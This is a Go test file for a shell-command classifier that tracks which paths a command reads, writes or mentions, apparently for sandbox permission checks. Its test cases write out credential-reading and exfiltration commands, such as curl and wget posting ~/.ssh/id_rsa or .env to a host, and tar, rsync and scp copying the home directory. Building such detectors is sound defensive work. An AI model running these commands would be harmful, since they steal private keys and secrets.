package classifier

import (
	"slices"
	"testing"
)

// TestMentions: outside any sandbox, a command no table describes is taken to read and write
// every path its words name, inside a script's text or an option too; a word known only at run
// time leaves the paths incomplete. Inside sandboxd (not Unconfined) nothing changes.
func TestMentions(t *testing.T) {
	opts := Options{Cwd: "/home/u/proj", Home: "/home/u", Shell: ShellBash, Unconfined: true}
	for _, tc := range []struct {
		cmd, path, access string
	}{
		{`awk 1 ~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`zcat -f /home/u/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`tar cf - ~/.ssh`, "/home/u/.ssh", AccessWrite},
		{`python3 cat.py ~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`python3 -c 'print(open("/home/u/.ssh/id_rsa").read())'`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`node -e "require('fs').readFileSync('~/.ssh/id_rsa')"`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`perl -ne print -- ../../u/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`cd ~/.ssh && awk 1 id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`tool --key-file=~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`make KEY=.env`, "/home/u/proj/.env", AccessWrite},
		{`tar -C/home/u/.ssh -cf- .`, "/home/u/.ssh", AccessWrite},
		{`gcc -I~/.ssh x.c`, "/home/u/.ssh", AccessWrite},
		{`tool -f./.env`, "/home/u/proj/.env", AccessWrite},
		{`timeout 5 nice awk 1 .env`, "/home/u/proj/.env", AccessWrite},
		{`sudo -u u vim -es .env`, "/home/u/proj/.env", AccessWrite},
		// ln's table writes the link only; a hard link would carry the file past the rule.
		{`ln ~/.ssh/id_rsa x`, "/home/u/.ssh/id_rsa", AccessRead},
		{`curl -d @/home/u/.ssh/id_rsa http://x`, "/home/u/.ssh/id_rsa", AccessRead},
		{`curl -F k=@~/.ssh/id_rsa http://x`, "/home/u/.ssh/id_rsa", AccessRead},
		{`wget --post-file=/home/u/.env http://x`, "/home/u/.env", AccessRead},
		// git's subcommands no table describes read and write what their words name.
		{`git interpret-trailers ~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`git hash-object -w ~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
		{`git credential-store --file ~/.git-credentials get`, "/home/u/.git-credentials", AccessWrite},
		{`git credential-store --file=.git/config store`, "/home/u/proj/.git/config", AccessWrite},
		{`git merge-file .git/config base theirs`, "/home/u/proj/.git/config", AccessWrite},
		{`git apply /home/u/secret.txt`, "/home/u/secret.txt", AccessWrite},
		{`git bundle verify ~/secret.txt`, "/home/u/secret.txt", AccessWrite},
		{`git read-tree --index-output=.envrc HEAD`, "/home/u/proj/.envrc", AccessWrite},
		{`git mailsplit -o.git/hooks x`, "/home/u/proj/.git/hooks", AccessWrite},
	} {
		c := Classify(tc.cmd, opts)
		if !slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Path == tc.path && p.Access == tc.access && p.Mention }) {
			t.Errorf("%q: paths %+v, want %s mentioned (%s)", tc.cmd, c.Paths, tc.path, tc.access)
		}
		if c := Classify(tc.cmd, Options{Cwd: opts.Cwd, Home: opts.Home}); slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Mention }) {
			t.Errorf("%q, run in sandboxd: mentions %+v", tc.cmd, c.Paths)
		}
		// In sandboxd with a Read rule only the decision holds outside the session: the same
		// path, as an alternative read (the rules meet it; no read outside by itself).
		c = Classify(tc.cmd, Options{Cwd: opts.Cwd, Home: opts.Home, MentionReads: true})
		if !slices.ContainsFunc(c.Paths, func(p PathUse) bool {
			return p.Path == tc.path && p.Access == AccessRead && p.Mention && p.Alternative
		}) {
			t.Errorf("%q, MentionReads: paths %+v, want %s an alternative read", tc.cmd, c.Paths, tc.path)
		}
	}
	// There a word known only at run time may be a path anywhere, as `cat $HOME/x`'s is; a
	// glob in the session is bounded by it. A script on stdin is read for paths as -c's is.
	sb := Options{Cwd: opts.Cwd, Home: opts.Home, MentionReads: true}
	for cmd, unbounded := range map[string]bool{`awk 1 $HOME/.ssh/id_rsa`: true, `awk 1 ~/.ssh/id_*`: true, `awk 1 *.txt`: false} {
		if c := Classify(cmd, sb); !c.PathsIncomplete || c.PathsUnbounded != unbounded {
			t.Errorf("%q, MentionReads: incomplete %v unbounded %v, want true %v", cmd, c.PathsIncomplete, c.PathsUnbounded, unbounded)
		}
	}
	for _, cmd := range []string{"python3 - <<EOF\nprint(open('/home/u/.ssh/id_rsa').read())\nEOF", `perl <<< 'open F, "/home/u/.ssh/id_rsa"'`} {
		if c := Classify(cmd, sb); !slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Path == "/home/u/.ssh/id_rsa" && p.Mention }) {
			t.Errorf("%q, MentionReads: paths %+v, want the script's path", cmd, c.Paths)
		}
	}

	// What packs or sends a directory reads it whole.
	for cmd, want := range map[string]bool{
		`tar czf out.tgz ~`: true, `tar -c -f - ~`: true, `tar --create -f x ~`: true, `tar -C ~ -cf- .`: true,
		`zip -r x.zip ~`: true, `rsync -a ~ host:b`: true, `scp -r ~ host:`: true, `7z a x.7z ~`: true,
		`tar xf x.tar -C ~`: false, `zip x.zip ~`: false, `rsync ~/f host:`: false, `awk 1 ~`: false,
	} {
		c := Classify(cmd, opts)
		if got := slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Path == "/home/u" && p.Tree && p.Access == AccessRead }); got != want {
			t.Errorf("%q: reads ~ whole %v, want %v (%+v)", cmd, got, want, c.Paths)
		}
	}

	checkIncomplete(t, opts, []incompleteCase{
		{`awk 1 $HOME/.ssh/id_rsa`, true},
		{`python3 "$(echo ~/.ssh)/id_rsa"`, true},
		{`tar cf - ~/.ss*`, true},
		{`make -j$(nproc)`, true},
		// Names or a script the program takes from a list or stdin, which the line does not show.
		{`echo /home/u/.ssh/id_rsa | tar -cf - -T -`, true},
		{`tar -c --files-from=list -f -`, true},
		{`zip -0 -q - -@ < list.txt`, true},
		{`find . | cpio -o`, true},
		{`echo 'print(open("/home/u/.ssh/id_rsa").read())' | python3`, true},
		{`cat x.py | python3 -`, true},
		{`python3 < x.py`, true},
		{`python3 - <<< 'print(1)'`, false},
		{`python3 -c 'print(1)'`, false},
		{`awk 1 ` + repeatWords("f", maxMentions+1), true},
		// What only sets the shell's state, and read-only commands, whose tables say all.
		{`export PATH=$PATH:~/bin`, false},
		{`echo $HOME/.ssh/id_rsa`, false},
		{`kill $PID`, false},
		{`let x=1`, false},
		{`npm install`, false},
		{`git hash-object --stdin-paths`, true},
	})
	for _, cmd := range []string{
		`echo /home/u/.ssh/id_rsa`,
		`test -f ~/.ssh/id_rsa`,
		`git log --oneline`,
		`bash -c 'echo ~/.ssh/id_rsa'`, // the script is classified itself
		`curl https://example.com/a/b`,
	} {
		if c := Classify(cmd, opts); slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Mention }) {
			t.Errorf("%q: mentions %+v, want none", cmd, c.Paths)
		}
	}
}

// TestNextEmbeddedPath: the paths inside a word.
func TestNextEmbeddedPath(t *testing.T) {
	for in, want := range map[string][]string{
		`open("/etc/passwd")`:          {"/etc/passwd"},
		`a:/b:~/c`:                     {"/b", "~/c"},
		`https://host/x /y`:            {"/y"},
		`@./k,../j`:                    {"./k", "../j"},
		`x/y z`:                        nil,
		`s/a/b/`:                       nil,
		`--cfg=/etc/x --out=~/y`:       {"/etc/x", "~/y"},
		`print $1 > "/tmp/out" * 2`:    {"/tmp/out"},
		`{"f": "/home/u/.ssh/id_rsa"}`: {"/home/u/.ssh/id_rsa"},
	} {
		var got []string
		for rest := in; rest != ""; {
			var p string
			p, rest = nextEmbeddedPath(rest)
			if p != "" {
				got = append(got, p)
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func repeatWords(w string, n int) string {
	s := w
	for i := 1; i < n; i++ {
		s += " " + w + string(rune('a'+i%26)) + string(rune('a'+i/26))
	}
	return s
}
